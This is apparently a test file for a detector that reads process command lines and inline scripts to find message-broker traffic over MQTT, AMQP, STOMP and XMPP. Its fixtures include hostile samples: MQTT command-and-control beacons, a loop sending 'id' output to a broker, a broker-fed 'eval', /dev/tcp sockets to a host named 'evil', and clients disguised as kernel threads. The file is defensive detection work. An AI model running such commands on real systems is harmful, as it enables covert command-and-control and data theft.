"""Command lines, and what their programs do at a broker."""

# ruff: noqa: E501 - one line a case reads best

from __future__ import annotations

import pytest

from topicwarden.events import MAX_ARGUMENT, MAX_ARGUMENTS, Process, SeenPayload, Shape
from topicwarden.hosts.commands import Command, Does, read_command

PUB, SUB, BOTH, MANAGE, CONNECT = Does.PUBLISH, Does.SUBSCRIBE, Does.BOTH, Does.MANAGE, Does.CONNECT


def read(*arguments: str, executable: str = "", cut: bool = False) -> Command | None:
    return read_command(Process("h", 1, executable, arguments, cut))


LINES: list[tuple[tuple[str, ...], Command]] = [
    # mosquitto's clients
    (
        ("mosquitto_pub", "-h", "b", "-t", "c2/beacon", "-m", "<payload>"),
        Command("mosquitto_pub", PUB, "mqtt", "b", 1883, ("c2/beacon",)),
    ),
    (("/usr/bin/mosquitto_pub", "-t", "a", "-n"), Command("mosquitto_pub", PUB, "mqtt", "localhost", 1883, ("a",))),
    (
        ("mosquitto_pub", "-t", "a", "-m", "-h", "-q", "1"),
        Command("mosquitto_pub", PUB, "mqtt", "localhost", 1883, ("a",)),
    ),
    (
        ("mosquitto_pub", "-L", "mqtt://u:***@b:1884/x/y", "-m", "<payload>"),
        Command("mosquitto_pub", PUB, "mqtt", "b", 1884, ("x/y",), secret=True),
    ),
    (("mosquitto_pub", "-L", "mqtts://b/x", "-l"), Command("mosquitto_pub", PUB, "mqtt", "b", 8883, ("x",))),
    (
        ("mosquitto_pub", "--cafile", "f", "-t", "a", "-s", "--will-topic", "w", "--will-payload", "<payload>"),
        Command("mosquitto_pub", PUB, "mqtt", "localhost", 8883, ("a", "w")),
    ),
    (
        ("mosquitto_pub", "-D", "publish", "user-property", "-h", "x", "-t", "a", "-n"),
        Command("mosquitto_pub", PUB, "mqtt", "localhost", 1883, ("a",)),
    ),
    (
        ("mosquitto_pub", "-D", "publish", "content-type", "-h", "-t", "a", "-n"),
        Command("mosquitto_pub", PUB, "mqtt", "localhost", 1883, ("a",)),
    ),
    (("mosquitto_pub", "-o", "f", "-t", "a", "-n"), Command("mosquitto_pub", PUB, "mqtt", None, None, ("a",))),
    (("mosquitto_pub", "--unix", "/run/m", "-t", "a", "-n"), Command("mosquitto_pub", PUB, "mqtt", "/run/m", None, ("a",))),
    (("mosquitto_pub", "-S", "-h", "d.org", "-t", "a", "-n"), Command("mosquitto_pub", PUB, "mqtt", "d.org", None, ("a",))),
    (
        ("mosquitto_sub", "-h", "b", "-p", "8883", "-t", "c2/#", "-t", "d/+", "-U", "no", "-T", "no"),
        Command("mosquitto_sub", SUB, "mqtt", "b", 8883, ("c2/#", "d/+")),
    ),
    (
        ("mosquitto_rr", "-t", "ask", "-e", "answer", "-m", "<payload>"),
        Command("mosquitto_rr", BOTH, "mqtt", "localhost", 1883, ("ask", "answer")),
    ),
    (
        ("mosquitto_sub", "--option-of-2030", "value", "-h", "b", "-t", "a"),
        Command("mosquitto_sub", SUB, "mqtt", "b", 1883, ("a",)),
    ),
    # amqp-tools
    (
        ("amqp-publish", "-u", "amqp://u:***@b:5673/v", "-e", "x", "-r", "k", "-b", "<payload>"),
        Command("amqp-publish", PUB, "amqp", "b", 5673, ("k",), secret=True),
    ),
    (("amqp-publish", "-e", "x", "--body=<payload>"), Command("amqp-publish", PUB, "amqp", "localhost", 5672, ("x",))),
    (("amqp-publish", "-pls", "b", "-rk"), Command("amqp-publish", PUB, "amqp", "b", 5672, ("k",))),
    (("amqp-publish", "-u=amqps://b", "-r=k"), Command("amqp-publish", PUB, "amqp", "b", 5671, ("k",))),
    (("amqp-publish", "-s", "b:0", "-r", "k"), Command("amqp-publish", PUB, "amqp", "b", None, ("k",))),
    (
        ("amqp-consume", "-s", "b", "--port", "0x1600", "-q", "q", "-e", "x", "-r", "a.*,b", "cat"),
        Command("amqp-consume", SUB, "amqp", "b", 0x1600, ("q", "a.*", "b")),
    ),
    (("amqp-get", "-q", "q"), Command("amqp-get", SUB, "amqp", "localhost", 5672, ("q",))),
    (("amqp-declare-queue", "-dq", "q"), Command("amqp-declare-queue", MANAGE, "amqp", "localhost", 5672, ("q",))),
    (("amqp-delete-queue", "-eq", "q"), Command("amqp-delete-queue", MANAGE, "amqp", "localhost", 5672, ("q",))),
    # RabbitMQ's own
    (
        ("python3", "/usr/sbin/rabbitmqadmin", "-H", "b", "-u", "u", "-p", "***", "publish", "routing_key=k", "payload=<payload>"),
        Command("rabbitmqadmin", PUB, None, "b", 15672, ("k",), secret=True),
    ),
    (
        ("rabbitmqadmin", "--host=b", "--port=1", "get", "queue=q"),
        Command("rabbitmqadmin", SUB, None, "b", 1, ("q",)),
    ),
    (("rabbitmqadmin", "-U", "http://b:8080/x", "declare", "queue", "name=q"), Command("rabbitmqadmin", MANAGE, None, "b", 8080, ("q",))),
    (("rabbitmqadmin", "-c", "f", "list", "queues"), Command("rabbitmqadmin", MANAGE)),
    (("sh", "/usr/sbin/rabbitmqctl", "-n", "x", "list_users"), Command("rabbitmqctl", MANAGE)),
    # Others
    (("mqttx", "pub", "-t", "a", "-h", "b", "-l", "wss", "-m", "<payload>"), Command("mqttx", PUB, "mqtt", "b", 8084, ("a",))),
    (("mqttx", "sub", "-t", "a"), Command("mqttx", SUB, "mqtt", None, 1883, ("a",))),
    (("mqtt", "pub", "-t", "a", "-h=b", "-pw", "***", "-m:empty"), Command("mqtt", PUB, "mqtt", "b", 1883, ("a",), secret=True)),
    (("emqtt_bench", "sub", "-c", "9", "-h", "b", "-t", "a/%i"), Command("emqtt_bench", SUB, "mqtt", "b", 1883, ("a/%i",))),
    (("paho_c_pub", "a", "--host", "b", "-m", "<payload>"), Command("paho_c_pub", PUB, "mqtt", "b", 1883, ("a",))),
    (("amqtt_sub", "--url", "mqtt://b", "-t", "a"), Command("amqtt_sub", SUB, "mqtt", "b", 1883, ("a",))),
    (("stomp", "-H", "b", "-L", "/queue/a"), Command("stomp", SUB, "stomp", "b", 61613, ("/queue/a",))),
    (("python3", "-m", "stomp", "-H", "b"), Command("stomp", CONNECT, "stomp", "b", 61613)),
    (("go-sendxmpp", "-u", "me@b.org", "you@b.org"), Command("go-sendxmpp", PUB, "xmpp", "b.org", 5222, ("you@b.org",))),
    (("sendxmpp", "-u", "me", "-j", "b:5223", "you@x"), Command("sendxmpp", PUB, "xmpp", "b", 5223, ("you@x",))),
    (("profanity", "-a", "me@x"), Command("profanity", CONNECT, "xmpp")),
    (("curl", "mqtt://b/a%2fb"), Command("curl", SUB, "mqtt", "b", 1883, ("a/b",))),
    (("curl", "-sSd", "<payload>", "mqtt://b:1884/a"), Command("curl", PUB, "mqtt", "b", 1884, ("a",))),
    (
        ("curl", "-u", "g:***", "http://b:15672/api/exchanges/%2f/amq.topic/publish", "-d", "<payload>"),
        Command("curl", PUB, None, "b", 15672, ("amq.topic",), secret=True),
    ),
    # Bytes
    (("nc", "b", "1883"), Command("nc", CONNECT, "mqtt", "b", 1883, raw=True)),
    (("nc", "-zvw1", "b", "5672"), Command("nc", CONNECT, "amqp", "b", 5672, raw=True)),
    (("nc", "b", "-w", "3", "xmpp-client"), Command("nc", CONNECT, "xmpp", "b", 5222, raw=True)),
    (("nc", "-z", "b", "1-2000"), Command("nc", CONNECT, "mqtt", "b", 1883, raw=True)),
    (("ncat", "--ssl", "b", "8883"), Command("ncat", CONNECT, "mqtt", "b", 8883, raw=True)),
    (("busybox", "nc", "b", "61613"), Command("nc", CONNECT, "stomp", "b", 61613, raw=True)),
    (("telnet", "b", "5222"), Command("telnet", CONNECT, "xmpp", "b", 5222, raw=True)),
    (("socat", "-T", "1", "-", "TCP4:b:1883,nodelay"), Command("socat", CONNECT, "mqtt", "b", 1883, raw=True)),
    (("socat", "TCP-LISTEN:99,fork", "openssl-connect:[fd00::1]:8883,verify=0"), Command("socat", CONNECT, "mqtt", "fd00::1", 8883, raw=True)),
    (("socat", "-", "SOCKS4A:proxy:b:5672,socksport=9050"), Command("socat", CONNECT, "amqp", "b", 5672, raw=True)),
    (("openssl", "s_client", "-quiet", "-connect", "b:8883"), Command("openssl", CONNECT, "mqtt", "b", 8883, raw=True)),
    (("openssl", "s_client", "-starttls", "xmpp", "-connect", "b:99"), Command("openssl", CONNECT, "xmpp", "b", 99, raw=True)),
    (("openssl", "s_client", "-alpn", "x-amzn-mqtt-ca", "-connect", "b:443"), Command("openssl", CONNECT, "mqtt", "b", 443, raw=True)),
    # Behind others
    (("sudo", "-u", "bob", "-n", "--", "mosquitto_pub", "-t", "a", "-n"), Command("mosquitto_pub", PUB, "mqtt", "localhost", 1883, ("a",))),
    (("env", "-i", "X=y", "timeout", "-k", "1", "5", "nice", "-n", "9", "stdbuf", "-oL", "mosquitto_sub", "-t", "a"), Command("mosquitto_sub", SUB, "mqtt", "localhost", 1883, ("a",))),
    (("xargs", "-I{}", "mosquitto_pub", "-h", "b", "-t", "a", "-m", "<payload>"), Command("mosquitto_pub", PUB, "mqtt", "b", None, ("a",))),
    (("su", "-", "bob", "-c", "mosquitto_sub -t a"), Command("mosquitto_sub", SUB, "mqtt", "localhost", 1883, ("a",), shell=True)),
    (("watch", "-n", "5", "mosquitto_pub -h b -t a -m <payload>"), Command("mosquitto_pub", PUB, "mqtt", "b", 1883, ("a",), shell=True)),
    (("flock", "/tmp/l", "mosquitto_sub", "-t", "a"), Command("mosquitto_sub", SUB, "mqtt", "localhost", 1883, ("a",))),
    # Shells
    (("sh", "-c", "mosquitto_pub -h b -t a -m <payload>"), Command("mosquitto_pub", PUB, "mqtt", "b", 1883, ("a",), shell=True)),
    (("bash", "-lc", "H=b; T=\"c2/x\"; while true; do id | mosquitto_pub -h $H -t \"$T\" -l; done"), Command("mosquitto_pub", PUB, "mqtt", "b", 1883, ("c2/x",), shell=True)),
    (("bash", "-c", "mosquitto_sub -h $1 -t x/$(id -u)/y"), Command("mosquitto_sub", SUB, "mqtt", None, 1883, (), shell=True)),
    (("bash", "-c", "if x; then H=a; else H=b; fi; mosquitto_sub -h $H -t q"), Command("mosquitto_sub", SUB, "mqtt", None, 1883, ("q",), shell=True)),
    (("sh", "-c", "echo <payload:xmpp> | nc 10.0.0.1 9999"), Command("nc", CONNECT, "xmpp", "10.0.0.1", 9999, raw=True, shell=True)),
    (("sh", "-c", "(printf '\\x10\\x0c\\x00\\x04MQTT'; cat) | nc 10.0.0.1 9999"), Command("nc", CONNECT, "mqtt", "10.0.0.1", 9999, raw=True, shell=True)),
    (("bash", "-c", "exec 3<>/dev/tcp/10.0.0.1/1883; cat <&3"), Command("bash", CONNECT, "mqtt", "10.0.0.1", 1883, raw=True, shell=True)),
    (("bash", "-c", "mosquitto_pub -h good -t a -n; exec 3<>/dev/tcp/evil/1883"), Command("bash", CONNECT, "mqtt", "evil", 1883, raw=True, shell=True)),
    (("sh", "-c", "m''osquitto_pub \\\n -h 'b' -t \"a\" -n # -h c"), Command("mosquitto_pub", PUB, "mqtt", "b", 1883, ("a",), shell=True)),
    (("sh", "-c", "X=$(mosquitto_sub -h b -t c2/# -C 1); eval \"$X\""), Command("mosquitto_sub", SUB, "mqtt", "b", 1883, ("c2/#",), shell=True)),
    (("sh", "-c", "bash -c 'mosquitto_sub -h b -t a'"), Command("mosquitto_sub", SUB, "mqtt", "b", 1883, ("a",), shell=True)),
    (("sh", "-c", "python3 - <<E\nimport paho.mqtt.publish as p\np.single('a', '<payload>', hostname='b')\nE"), Command("python", PUB, "mqtt", "b", 1883, ("a",), library="paho", shell=True)),
    (("sh", "-c", "mosquitto_sub", "-h", "b", "-t", "a"), Command("mosquitto_sub", SUB, "mqtt", "b", 1883, ("a",), shell=True)),
]  # fmt: skip


@pytest.mark.parametrize(
    ("arguments", "command"), LINES, ids=lambda value: " ".join(value)[:60] if isinstance(value, tuple) else ""
)
def test_a_command_line_is_read(arguments: tuple[str, ...], command: Command) -> None:
    assert read(*arguments) == command


CODE: list[tuple[str, str, Command]] = [
    (
        "python3",
        ("import paho.mqtt.client as m\nH = 'b'\nc = m.Client()\nc.username_pw_set('u', ***)\nc.connect(H, 8883)\n"
        "c.subscribe([('c2/#', 1), ('d', 0)])"),
        Command("python", SUB, "mqtt", "b", 8883, ("c2/#", "d"), library="paho", secret=True),
    ),
    (
        "python3",
        "import paho.mqtt.client as m; c=m.Client(); c.connect('b'); c.publish(f'c2/{x}', '<payload>'); c.subscribe('a')",
        Command("python", BOTH, "mqtt", "b", 1883, ("a",), library="paho"),
    ),
    (
        "python3.11",
        "import paho.mqtt.subscribe as s; s.callback(print, ['a', 'b'], port=1884)",
        Command("python", SUB, "mqtt", "localhost", 1884, ("a", "b"), library="paho"),
    ),
    ("python3", "import os, paho.mqtt.client as m; m.Client().connect(os.environ['H'])", Command("python", CONNECT, "mqtt", None, 1883, library="paho")),
    ("python3", "import aiomqtt; aiomqtt.Client('b')", Command("python", CONNECT, "mqtt", "b", 1883, library="aiomqtt")),
    (
        "python3",
        ("import pika\np = pika.BlockingConnection(pika.ConnectionParameters(port=5673))\n"
        "p.channel().basic_publish(exchange='', routing_key='k', body='<payload>')"),
        Command("python", PUB, "amqp", "localhost", 5673, ("k",), library="pika"),
    ),
    (
        "python3",
        "import pika; pika.BlockingConnection(pika.URLParameters('amqp://u:***@b/%2f')).channel().basic_consume('q', f)",
        Command("python", SUB, "amqp", "b", 5672, ("q",), library="pika", secret=True),
    ),
    (
        "python3",
        "from kombu import Connection\nwith Connection('amqp://b') as c: c.Producer().publish('<payload>', routing_key='k')",
        Command("python", PUB, "amqp", "b", 5672, ("k",), library="kombu"),
    ),
    (
        "python3",
        "import stomp; c = stomp.Connection([('b', 61614)]); c.connect('u', ***); c.send('/queue/a', '<payload>')",
        Command("python", PUB, "stomp", "b", 61614, ("/queue/a",), library="stomp", secret=True),
    ),
    (
        "python3",
        "import slixmpp; x = slixmpp.ClientXMPP('me@b.org', ***); x.send_message(mto='you@c', mbody='<payload>'); x.connect()",
        Command("python", PUB, "xmpp", "b.org", 5222, ("you@c",), library="slixmpp", secret=True),
    ),
    (
        "python3",
        "import slixmpp; x = slixmpp.ClientXMPP('me@b.org', ***); x.connect(('evil', 9999))",
        Command("python", CONNECT, "xmpp", "evil", 9999, library="slixmpp", secret=True),
    ),
    (
        "python3",
        "import socket; s = socket.create_connection(('b', 1883)); s.send(b'<payload>')",
        Command("python", CONNECT, "mqtt", "b", 1883, raw=True),
    ),
    (
        "python3",
        "import socket; s = socket.socket(); s.connect(('b', 4444)); s.sendall(b'<payload:mqtt>')",
        Command("python", CONNECT, "mqtt", "b", 4444, raw=True),
    ),
    ("python3", "import paho.mqtt.client as m; m.Client().connect('good'); m.Client().connect('evil')", Command("python", CONNECT, "mqtt", None, 1883, library="paho")),
    ("python3", "exec(__import__('paho.mqtt.client').x); c.connect('b',1883", Command("python", CONNECT, "mqtt", "b", 1883, library="paho")),
    ("node", "const m = require('mqtt').connect('mqtt://b:1884'); m.subscribe('a/#')", Command("node", SUB, "mqtt", "b", 1884, ("a/#",), library="mqtt")),
    ("ruby", "require 'mqtt'; MQTT::Client.connect(host: 'b') { |c| c.publish('a', '<payload>') }", Command("ruby", PUB, "mqtt", "b", 1883, ("a",), library="mqtt")),
    ("perl", "use Net::MQTT::Simple; Net::MQTT::Simple->new('b')->publish('a' => '<payload>')", Command("perl", PUB, "mqtt", "b", 1883, ("a",), library="Net::MQTT")),
]  # fmt: skip


@pytest.mark.parametrize(("program", "text", "command"), CODE, ids=[text[:60] for _, text, _ in CODE])
def test_the_text_of_a_script_is_read(program: str, text: str, command: Command) -> None:
    option = "-c" if program.startswith("python") else "-e"
    assert read(program, option, text) == command
    assert read(program, option, *text.split()) == command, "joined by spaces"
    if option == "-c":
        assert read(program, "-uB" + option[1:], text) == command


def test_a_script_is_told_by_its_name_and_the_usual_options() -> None:
    assert read("python3", "/opt/mqtt_publisher.py", "--host", "b", "-t", "a") == Command(
        "python", PUB, "mqtt", "b", None, ("a",)
    )
    assert read("python3", "-m", "app.rabbitmq_consumer") == Command("python", SUB, "amqp")


NOTHING = [
    ("vim", "mosquitto.conf"),
    ("grep", "mosquitto_pub", "/var/log/syslog"),
    ("man", "mosquitto_pub"),
    ("which", "mosquitto_pub"),
    ("systemctl", "restart", "mosquitto"),
    ("mosquitto", "-c", "/etc/mosquitto/mosquitto.conf"),
    ("mosquitto_passwd", "-b", "f", "u", "***"),
    ("pip", "install", "paho-mqtt"),
    ("python3", "-m", "pip", "install", "paho-mqtt"),
    ("apt", "install", "mosquitto-clients"),
    ("mosquitto_pub", "--help"),
    ("mosquitto_sub", "--version"),
    ("amqp-publish", "-?"),
    ("nc", "-l", "1883"),
    ("nc", "-lvp", "1883"),
    ("ncat", "--listen", "1883"),
    ("nc", "b", "22"),
    ("nc", "-u", "b", "1883"),
    ("nc", "-U", "/run/s"),
    ("nc",),
    ("telnet", "b"),
    ("socat", "-", "TCP-LISTEN:1883"),
    ("socat", "-", "UDP:b:1883"),
    ("openssl", "x509", "-in", "mqtt.pem"),
    ("openssl", "s_client", "-connect", "b:443"),
    ("curl", "https://b/mqtt"),
    ("curl", "http://b:15672/api/overview"),
    ("mqttx", "--help"),
    ("mqttx", "ls"),
    ("python3", "-c", "print(1883)"),
    ("python3", "-c", "import socket; socket.create_connection(('b', 80))"),
    ("python3", "mqtt_test.py"),
    ("python3", "setup.py", "mqtt"),
    ("python3",),
    ("sh", "-c", "grep mosquitto_pub f | wc -l"),
    ("sh", "-c", "echo mosquitto_pub -h b -t a -m x"),
    ("sh", "-c", "# mosquitto_pub -h b -t a -m x"),
    ("sh", "-c", "cat <<E\nmosquitto_pub -h b -t a -m x\nE"),
    ("sh", "mosquitto.sh"),
    ("bash",),
    ("sudo", "-l", "mosquitto_pub"),
    ("sudo", "-u", "mosquitto_pub", "ls"),
    ("ssh", "host", "mosquitto_pub", "-t", "a", "-n"),
    ("ls", "-t", "a", "-m", "b"),
    ("psql", "-h", "b", "-p", "1883", "-t", "-m"),
    ("script", "mosquitto_pub"),
    ("timeout", "5"),
    ("env",),
    (),
]


@pytest.mark.parametrize("arguments", NOTHING, ids=" ".join)
def test_what_is_not_about_a_broker_is_none(arguments: tuple[str, ...]) -> None:
    assert read(*arguments) is None


class TestCut:
    """Of a line that is cut, nothing is claimed that the missing part could change."""

    def test_no_default_is_claimed(self) -> None:
        command = read("mosquitto_pub", "-t", "a", cut=True)
        assert command == Command("mosquitto_pub", PUB, "mqtt", None, None, ("a",))
        assert read("amqp-get", "-q", "q", cut=True) == Command("amqp-get", SUB, "amqp", None, None, ("q",))
        assert read("ncat", "b", cut=True) is None
        assert read("python3", "-c", "import pika; pika.ConnectionParameters(", cut=True) == Command(
            "python", CONNECT, "amqp", library="pika"
        )

    def test_what_is_written_is_kept(self) -> None:
        assert read("mosquitto_pub", "-h", "b", "-t", "a", cut=True) == Command(
            "mosquitto_pub", PUB, "mqtt", "b", None, ("a",)
        )

    def test_a_host_that_is_given_twice_may_be_either(self) -> None:
        words = ("mosquitto_pub", "-h", "evil", "-m", "<payload>", "-h", "good", "-t", "a")
        whole, cut = read(*words), read(*words, cut=True)
        assert whole is not None
        assert cut is not None
        assert (whole.host, cut.host) == ("good", None)

    def test_an_option_without_its_value_leaves_it_open(self) -> None:
        command = read("mosquitto_pub", "-t", "a", "-h", cut=True)
        assert command is not None
        assert command.host is None

    def test_only_the_last_command_of_a_cut_text_is_uncertain(self) -> None:
        text = "mosquitto_sub -t a; " + "x" * MAX_ARGUMENT
        assert read("sh", "-c", text[:MAX_ARGUMENT], cut=True) == Command(
            "mosquitto_sub", SUB, "mqtt", "localhost", 1883, ("a",), shell=True
        )
        assert read("sh", "-c", "true; mosquitto_sub -t a", cut=True) == Command(
            "mosquitto_sub", SUB, "mqtt", None, None, ("a",), shell=True
        )


class TestNames:
    """Which program it is: the path tells more than the first argument, which may be anything."""

    def test_a_tool_under_a_false_name_is_known_by_its_path(self) -> None:
        command = read("[kworker/0:1]", "-t", "a", "-n", executable="/usr/bin/mosquitto_pub")
        assert command is not None
        assert command.tool == "mosquitto_pub"

    def test_a_program_of_many_names_is_known_by_the_name_it_was_given(self) -> None:
        command = read("nc", "b", "1883", executable="/usr/bin/busybox")
        assert command is not None
        assert command.tool == "nc"

    def test_a_netcat_is_known_behind_its_alternatives(self) -> None:
        assert read("nc", "-d", "1", "b", "1883", executable="/usr/bin/ncat") is not None
        assert read("nc", "-d", "b", "1883", executable="/usr/bin/nc.openbsd") is not None

    @pytest.mark.parametrize("name", ["mosquitto_pub-2.0.18", "mosquitto_pub.old", "/tmp/x/mosquitto_pub"])
    def test_a_version_behind_the_name_does_not_hide_it(self, name: str) -> None:
        assert read(name, "-t", "a", "-n") is not None

    @pytest.mark.parametrize(
        "arguments",
        [
            ("-h", "b", "-p", "1883", "-t", "a", "-m", "<payload>"),
            ("-L", "mqtt://b/a", "-l"),
            ("-t", "a", "-h", "b", "-V", "mqttv5", "-s"),
        ],
    )
    def test_a_renamed_copy_is_known_by_arguments_that_only_it_takes(self, arguments: tuple[str, ...]) -> None:
        command = read("/tmp/updater", *arguments)
        assert command is not None
        assert (command.tool, command.host, command.names) == ("mosquitto_pub", "b", ("a",))

    @pytest.mark.parametrize(
        "arguments",
        [
            ("-h", "b", "-p", "5432", "-t", "a", "-m", "x"),
            ("-h", "b", "-p", "1883", "-t", "a", "-m", "x", "file"),
            ("-h", "b", "-t", "a", "-m", "x"),
            ("run", "-h", "b", "-p", "1883", "-t", "a", "-m", "x"),
        ],
    )
    def test_what_another_program_may_take_is_not_accused(self, arguments: tuple[str, ...]) -> None:
        assert read("/usr/bin/thing", *arguments) is None


def test_the_payload_that_was_measured_is_the_commands() -> None:
    payload = SeenPayload(5, 2.3, Shape.TEXT)
    line = ("mosquitto_pub", "-t", "a", "-m", "<payload>")
    command = read_command(Process("h", 1, "", line, payload=payload))
    assert command is not None
    assert command.payload == payload


def test_names_are_bounded() -> None:
    words = [word for number in range(31) for word in ("-t", str(number))]
    command = read("mosquitto_sub", *words)
    assert command is not None
    assert len(words) < MAX_ARGUMENTS
    assert command.names == tuple(map(str, range(16)))
